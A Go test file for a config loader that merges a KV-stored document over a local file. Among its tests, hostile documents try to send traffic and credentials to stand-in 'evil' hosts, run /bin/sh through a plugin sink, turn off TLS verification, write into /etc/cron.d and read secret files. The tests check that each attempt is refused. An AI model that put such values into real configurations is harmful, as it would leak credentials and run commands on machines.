package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestWithDocument layers a KV document over the file: its keys win, maps
// merge key by key, lists are replaced, env variables still win, and its
// strings are interpolated with the variables config.kv_env lists.
func TestWithDocument(t *testing.T) {
	doc := `
sinks:
  other: { type: nats_core }
routes:
  - sinks: [other]
    subject: "x.${TENANT}.{{.Table}}"
checkpoint: { interval: 3s }
`
	cfg, err := loadYAML(t, base+"config: { kv: bridge_config/shop, kv_env: [TENANT] }\n",
		WithDocument("kv bridge_config/shop revision 3", []byte(doc)), environ("TENANT=t1", "BRIDGE_CHECKPOINT__INTERVAL=5s"))
	require.NoError(t, err)
	require.Contains(t, cfg.Sinks, "main", "the file's sinks stay")
	require.Contains(t, cfg.Sinks, "other", "the document's sinks merge in")
	require.Len(t, cfg.Routes, 1)
	require.Equal(t, []string{"other"}, cfg.Routes[0].Sinks, "the document's list replaces the file's")
	require.Equal(t, "x.t1.{{.Table}}", cfg.Routes[0].Subject)
	require.Equal(t, "5s", cfg.Checkpoint.Interval.String(), "the environment wins over the document")
	bucket, key, ok := cfg.Config.KVLocation()
	require.True(t, ok)
	require.Equal(t, "bridge_config", bucket)
	require.Equal(t, "shop", key)
}

// TestWithDocumentProblems: the document may not set config, and its
// problems are reported like the file's, after them.
func TestWithDocumentProblems(t *testing.T) {
	doc := `
config: { kv: other/key }
routes:
  - sinks: [missing]
`
	_, err := loadYAML(t, base+"checkpoint: { interval: -1s }\n", WithDocument("kv b/k", []byte(doc)))
	lines := problems(t, err)
	joined := strings.Join(lines, "\n")
	require.Contains(t, joined, "config: kv b/k sets config")
	require.Contains(t, joined, `routes[0].sinks[0]: no sink named "missing"`)
	require.Contains(t, joined, "checkpoint.interval")
	require.Less(t, strings.Index(joined, "checkpoint.interval"), strings.Index(joined, "routes[0].sinks[0]"), "the file's problems first:\n%s", joined)

	_, err = loadYAML(t, base, WithDocument("kv b/k", []byte("routes: [\n")))
	require.ErrorContains(t, err, "kv b/k")
}

func TestConfigKVSyntax(t *testing.T) {
	for _, bad := range []string{"nokey", "/key", "bucket/", "bad bucket/key", "b/k k"} {
		_, err := loadYAML(t, base+"config: { kv: \""+bad+"\" }\n")
		require.ErrorContains(t, err, "config.kv", bad)
	}
}

// TestRevision: the same configuration written differently has the same
// revision; any changed value gives another.
func TestRevision(t *testing.T) {
	a, err := loadYAML(t, base)
	require.NoError(t, err)
	b, err := loadYAML(t, "# a comment\n"+strings.ReplaceAll(base, "type: nats_jetstream", "type: nats_jetstream\n    batch: { max_changes: 1000 }"))
	require.NoError(t, err)
	require.Len(t, a.Revision(), 12)
	require.Equal(t, a.Revision(), b.Revision(), "a default written out changes nothing")
	c, err := loadYAML(t, base+"unrouted: error\n")
	require.NoError(t, err)
	require.NotEqual(t, a.Revision(), c.Revision())
	d, err := loadYAML(t, strings.Replace(base, "stream: CDC", "stream: CDC2", 1))
	require.NoError(t, err)
	require.NotEqual(t, a.Revision(), d.Revision(), "a plugin block's value counts")
}

// TestDocumentReadsNoSecrets: whoever can write the config.kv entry must not
// read this machine's files or environment through it (a subject
// "x.${file:/run/secrets/pg_password}" published the secret). A
// ${file:...} is refused wherever it is, and so is a variable config.kv_env
// does not list, each at its key, naming the entry and the fix, and never
// the secret; the local file keeps both, and $$ is still a $.
func TestDocumentReadsNoSecrets(t *testing.T) {
	dir := t.TempDir()
	secret := filepath.Join(dir, "pg_password")
	require.NoError(t, os.WriteFile(secret, []byte("hunter2-file\n"), 0o600))
	env := environ("PG_PASSWORD=hunter2-env", "REGION=eu", "SECRETS="+dir)
	const name = "kv bridge_config/shop revision 7"
	load := func(t *testing.T, file, doc string) (*Config, error) {
		t.Helper()
		return loadYAML(t, base+file, WithDocument(name, []byte(doc)), env)
	}
	noSecret := func(t *testing.T, err error) {
		t.Helper()
		require.NotContains(t, err.Error(), "hunter2")
	}

	t.Run("files", func(t *testing.T) {
		for _, ref := range []string{
			"${file:" + secret + "}",
			"${file:${SECRETS}/pg_password}",
			"${REGION:-${file:" + secret + "}}", // even in a default that is not taken
			"a.${MISSING:-${file:" + secret + "}}.b",
		} {
			_, err := load(t, "config: { kv: bridge_config/shop, kv_env: [REGION, SECRETS, MISSING] }\n",
				"routes:\n  - sinks: [main]\n    subject: \"x.{{.Table}}."+ref+"\"\n")
			lines := problems(t, err)
			require.Equal(t, []string{"routes[0].subject: " + name + " may not read files (${file:...}): whoever can write that entry would read this machine's files through it; " +
				"set this key in the local file, where ${file:...} works, and leave it out of the entry"}, lines, ref)
			noSecret(t, err)
		}
	})

	t.Run("variables not listed", func(t *testing.T) {
		for _, ref := range []string{"${PG_PASSWORD}", "${PG_PASSWORD:-none}", "${REGION:-${PG_PASSWORD}}", "${UNSET:-x}"} {
			_, err := load(t, "config: { kv: bridge_config/shop, kv_env: [REGION] }\n",
				"routes:\n  - sinks: [main]\n    subject: \"x.{{.Table}}."+ref+"\"\n")
			lines := problems(t, err)
			require.Len(t, lines, 1, ref)
			v := "PG_PASSWORD"
			if ref == "${UNSET:-x}" {
				v = "UNSET"
			}
			require.Equal(t, "routes[0].subject: "+name+" may not read environment variable "+v+" (${"+v+"}): whoever can write that entry would read it on every bridge; "+
				"set this key in the local file or a BRIDGE_* variable and leave it out of the entry, or, if "+v+" holds no secret, list it in config.kv_env of the local file", lines[0], ref)
			noSecret(t, err)
		}
	})

	t.Run("the local file keeps them", func(t *testing.T) {
		cfg, err := load(t, "config: { kv: bridge_config/shop, kv_env: [REGION] }\n"+
			"http: { token: \"${file:"+secret+"}-${PG_PASSWORD}\" }\n",
			"routes:\n  - sinks: [main]\n    subject: \"x.${REGION}.${REGION:-us}.$${{.Table}}\"\n")
		require.NoError(t, err)
		require.Equal(t, "hunter2-file-hunter2-env", cfg.HTTP.Token, "the file reads files and variables")
		require.Equal(t, "x.eu.eu.${{.Table}}", cfg.Routes[0].Subject, "the entry reads what kv_env lists, and $$ is a $")
	})

	t.Run("kv_env from the environment, never from the entry", func(t *testing.T) {
		cfg, err := loadYAML(t, base+"config: { kv: bridge_config/shop }\n",
			WithDocument(name, []byte("routes:\n  - sinks: [main]\n    subject: \"x.${REGION}\"\n")),
			environ("REGION=eu", "BRIDGE_CONFIG__KV_ENV=REGION"))
		require.NoError(t, err)
		require.Equal(t, "x.eu", cfg.Routes[0].Subject)

		_, err = load(t, "config: { kv: bridge_config/shop }\n",
			"config: { kv_env: [PG_PASSWORD] }\nroutes:\n  - sinks: [main]\n    subject: \"x.${PG_PASSWORD}\"\n")
		joined := strings.Join(problems(t, err), "\n")
		require.Contains(t, joined, "config: "+name+" sets config")
		require.Contains(t, joined, "routes[0].subject: "+name+" may not read environment variable PG_PASSWORD")
		noSecret(t, err)
	})

	t.Run("kv_env names", func(t *testing.T) {
		_, err := loadYAML(t, base+"config: { kv: b/k, kv_env: [REGION, 1X, \"A-B\"] }\n")
		require.Equal(t, []string{
			`config.kv_env[1]: "1X" is not a variable name: a letter or _, then letters, digits and _ (the NAME of ${NAME})`,
			`config.kv_env[2]: "A-B" is not a variable name: a letter or _, then letters, digits and _ (the NAME of ${NAME})`,
		}, problems(t, err))
	})
}

// TestDocumentSetsNothingLocal: the entry may not set what is each
// machine's own (its name, data_dir, NATS connection, listeners, serve and
// telemetry), nor, in a source or sink, where it connects, with what
// credentials, or what it runs or writes (a dsn, a url, TLS, credentials,
// a spill_dir, a plugin's command), nor any sink of type plugin: with
// those, whoever writes the entry would run programs on every bridge or
// send a machine's credentials, merged from its file, to a host of its
// choosing. Each is refused at its key, naming the entry and the fix; the
// rest of the entry is read.
func TestDocumentSetsNothingLocal(t *testing.T) {
	const name = "kv bridge_config/shop revision 9"
	file := `
name: shop
sources:
  shop:
    type: pgoutput
    config: { dsn: "postgres://db/shop", slot: bridge_shop }
routes:
  - sinks: [main]
nats: { url: "tls://nats:4222", user: bridge, password: hunter2 }
sinks:
  main:
    type: nats_jetstream
    config: { stream: CDC }
  archive:
    type: nats_jetstream
    config: { stream: ARCHIVE, url: "tls://archive:4222", user: archiver, password: hunter3 }
  files:
    type: plugin
    config: { command: /usr/local/lib/bridge/go-sink, sha256: "00", config: { path: /var/lib/cdc/out.jsonl } }
`
	doc := `
name: other
data_dir: /tmp/x
nats: { url: "nats://evil:4222", tls: { insecure_skip_verify: true } }
http: { listen: "0.0.0.0:8080", allow_public: true }
serve: { auth: { mode: none } }
telemetry: { tracing: { endpoint: "http://evil:4318" } }
sources:
  shop:
    config: { dsn: "postgres://bridge@evil/shop?sslmode=disable", spill_dir: /tmp, slot: bridge_shop2 }
sinks:
  archive:
    config: { url: "nats://evil:4222", tls: { insecure_skip_verify: true }, max_pending: 100 }
  files:
    config: { config: { path: /etc/cron.d/x } }
  run:
    type: plugin
    config: { command: /bin/sh, args: ["-c", "id"], sha256: "00" }
  hook:
    type: webhook
    config: { url: "https://evil.example/in" }
routes:
  - sinks: [main]
    subject: "y.{{.Table}}"
`
	_, err := loadYAML(t, file, WithDocument(name, []byte(doc)))
	lines := problems(t, err)
	for _, at := range []string{"name", "data_dir", "nats", "http", "serve", "telemetry",
		"sources.shop.config.dsn", "sources.shop.config.spill_dir", "sinks.archive.config.url", "sinks.archive.config.tls",
		"sinks.files", "sinks.run", "sinks.hook.config.url"} {
		found := false
		for _, l := range lines {
			if strings.HasPrefix(l, at+": "+name+" sets ") {
				found = true
				require.Contains(t, l, "set it in each machine's local file and leave it out of the entry")
			}
		}
		require.True(t, found, "%s refused:\n%s", at, strings.Join(lines, "\n"))
	}
	require.NotContains(t, err.Error(), "hunter")

	// What the entry may set is read: routes, a sink's other keys, a source's slot.
	cfg, err := loadYAML(t, file, WithDocument(name, []byte(`
sources:
  shop:
    config: { slot: bridge_shop2 }
sinks:
  archive:
    config: { max_pending: 100 }
routes:
  - sinks: [main, archive]
    subject: "y.{{.Table}}"
`)))
	require.NoError(t, err)
	require.Equal(t, "y.{{.Table}}", cfg.Routes[0].Subject)
	require.Equal(t, "tls://nats:4222", cfg.NATS.URL, "the file's connection stays")
}
